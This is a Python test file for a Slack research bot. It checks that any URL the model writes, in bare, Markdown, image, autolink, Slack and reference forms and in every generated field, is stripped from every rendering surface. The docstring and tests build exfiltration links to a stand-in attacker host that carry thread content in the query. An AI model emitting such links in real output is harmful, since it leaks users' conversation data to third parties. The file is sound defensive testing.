"""Only the run's sources and Slack permalinks are links, on every surface (issue 45, item 5a).

A URL the model writes is a request waiting for a click: `https://attacker.example/?d=<the thread's
content>`. Generated over the forms a URL takes in text (bare, Markdown link, autolink, image,
`www.`, Slack's `<url|label>`, a reference definition), each put in every field the model writes
(sections and their titles, the summary, what it is doing, where sources disagree, notices, why it
ended, its steps, its plan, chart titles, revisions and their reasons), and rendered by every surface
the run is shown on: the report message, the report spilled to a Markdown file, the report with its
canvas, the canvas, the Markdown file of `deepthread ask`, the progress message and its plan, the
native stream, the thread status, a section's history and a re-check's digest. The path and query
the model chose never reach any of them; the run's source and a Slack permalink stay links.
"""
from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent import Source
from agent.charts.models import Chart
from agent.planning import Plan
from agent.report import Revision, Section
from bot.cli.terminal import report_markdown
from bot.desk.recheck_digest import digest
from bot.publishing.canvas_render import render_canvas
from bot.publishing.message_parts import CanvasView, SlackMessage
from bot.publishing.progress_render import render_progress, render_status
from bot.publishing.report_render import render_report_parts
from bot.publishing.stream_render import end_text, render_view
from bot.slack.outgoing import guard
from bot.surface.steering import section_history
from jobs import Run, RunState, RunStatus
from jobs.records.models import Step
from jobs.upkeep.recheck import RecheckRun

SOURCE = "https://fees.example/vti-fact-sheet"
PERMALINK = "https://acme.slack.com/archives/C0TEST/p1700000000000100"
FETCHED = datetime(2026, 11, 30, 9, 15, tzinfo=UTC)

FORMS: dict[str, Callable[[str], str]] = {
    "bare": lambda url: f"see {url} for more",
    "markdown link": lambda url: f"see [the figures]({url})",
    "autolink": lambda url: f"see <{url}>",
    "image": lambda url: f"![chart]({url})",
    "www": lambda url: "see " + url.split("://", 1)[1].replace("attacker", "www.attacker", 1),
    "slack link": lambda url: f"see <{url}|the figures>",
    "reference": lambda url: f"see [the figures][r]\n\n[r]: {url}",
    "upper case": lambda url: f"see {url.upper()}",
}
FIELDS = ("body", "summary", "title", "activity", "checking", "notice", "reason", "step", "plan", "chart",
          "revision", "constraint")


def _strings(node: object) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, list):
        return [s for item in node for s in _strings(item)]
    if isinstance(node, dict):
        return [s for value in node.values() for s in _strings(value)]
    return []


def _message(message: SlackMessage) -> list[str]:
    """What Slack is sent for a message: its text and blocks, through the rule every request passes."""
    return _strings(guard("chat.postMessage", {"text": message.text, "blocks": message.blocks}, None, None)[0])


def _state(crafted: str, field: str, *, long: bool = False, status: RunStatus = RunStatus.running) -> RunState:
    def text(name: str, plain: str) -> str:
        return f"{plain} {crafted}" if name == field else plain

    body = text("body", f"VTI charges 0.03% [1], per [its fact sheet]({SOURCE}); thread: {PERMALINK}.")
    sections = [Section(section_id="a", title=text("title", "Fees"), body=body,
                        revisions=[Revision(body=text("revision", "VTI charged 0.04%."), reason=text("revision", "newer"))])]
    if long:  # a report too long for one message: it spills into a file or a canvas
        sections += [Section(section_id=f"x{i}", title=f"Part {i}", body=f"{body} " + "More on fees. " * 300)
                     for i in range(12)]
    plan = Plan(key_questions=[text("plan", "What does VTI charge?")], outline=[text("plan", "Fees")],
                expected_requests=5, expected_minutes=5, changes=[text("plan", "add ITOT")])
    return RunState(
        run=Run(channel="C0TEST", thread_ts="1700000000.000001", requester="U0ANA", question="fees of VTI?",
                team="T0TEST", constraints=[text("constraint", "only 2024 figures")]),
        status=status, phase="researching",
        activity=text("activity", "Reading fees.example"), checking=text("checking", "0.03% or 0.04%?"),
        sections=sections,
        sources={"s1": Source(marker="s1", url=SOURCE, title="VTI fact sheet", passage="Expense ratio 0.03%.",
                              retrieved_at=FETCHED)},
        summary=text("summary", "VTI is cheap [s1]."), reason=text("reason", "the budget ran out"),
        notices=[text("notice", "Search degraded")], constraints_changed=True,
        steps=[Step(n=1, phase="researching", activity=text("step", "Searching: fees"), sources=["s1"])],
        charts=[Chart(chart_id="c1", version=1, section_id="a", title=text("chart", "Fees by fund"), kind="bar",
                      x_label="fund", y_label="fee", blob_id="b1")],
        plan=plan,
    )


def _recheck(state: RunState) -> list[str]:
    parent = state.model_copy(update={"sections": [s.model_copy(update={"revisions": []}) for s in state.sections]})
    recheck = RecheckRun(run_id="r2", parent_run_id=state.run.id, channel="C0TEST", thread_ts="1.1", since=FETCHED)
    return [digest(recheck, parent, state.model_copy(update={"status": RunStatus.completed}), None)]


# Every surface a run is shown on, with everything it sends or writes.
SURFACES: dict[str, Callable[[str, str], list[str]]] = {
    "report": lambda c, f: _message(render_report_parts(_state(c, f)).message),
    "report spilled to a file": lambda c, f: [
        *_message((r := render_report_parts(_state(c, f, long=True))).message),
        *([r.attachment.content, r.attachment.title, r.attachment.comment] if r.attachment else ["no file"]),
    ],
    "report with its canvas": lambda c, f: [
        *_message((r := render_report_parts(_state(c, f, long=True), canvas=CanvasView(always=True))).message),
        r.canvas.markdown() if r.canvas else "no canvas",
    ],
    "canvas": lambda c, f: [render_canvas(_state(c, f)).markdown()],
    "markdown file": lambda c, f: [report_markdown(_state(c, f, status=RunStatus.completed))],
    "progress": lambda c, f: _message(render_progress(_state(c, f))),
    "plan": lambda c, f: _message(render_progress(_state(c, f, status=RunStatus.planned))),
    "stream": lambda c, f: [
        (view := render_view(_state(c, f))).title, *_strings(list(view.tasks.values())), *view.texts.values(),
        end_text(_state(c, f, status=RunStatus.failed)),
    ],
    "status": lambda c, f: [render_status(_state(c, f))],
    "history": lambda c, f: [section_history(_state(c, f), None)],
    "re-check digest": lambda c, f: _recheck(_state(c, f)),
}

secrets = st.from_regex(r"Zq[A-Za-z0-9]{8,14}", fullmatch=True)  # found nowhere else


@pytest.mark.parametrize("surface", sorted(SURFACES))
@settings(max_examples=5, deadline=None)
@given(secret=secrets, slash=st.sampled_from(["", "/"]))
def test_a_url_the_model_wrote_is_never_a_link_nor_carried_on_any_surface(surface: str, secret: str,
                                                                          slash: str) -> None:
    """Every form, in every field the model writes, on this surface."""
    for form in FORMS:
        for field in FIELDS:
            crafted = FORMS[form](f"https://attacker.example/c/{secret}{slash}?d=0.0317-{secret}")
            shown = "\n".join(SURFACES[surface](crafted, field))
            assert secret not in shown and secret.upper() not in shown, f"{surface}, {field}, {form}: {shown}"


@pytest.mark.parametrize("surface", ["report", "canvas", "markdown file"])
def test_the_run_s_source_and_a_slack_permalink_stay_links(surface: str) -> None:
    shown = "\n".join(SURFACES[surface]("", "body"))
    if surface == "report":
        assert f"<{SOURCE}|its fact sheet>" in shown and f"<{PERMALINK}>" in shown, shown
    else:
        assert f"]({SOURCE})" in shown and PERMALINK in shown, shown
    assert "attacker" not in shown
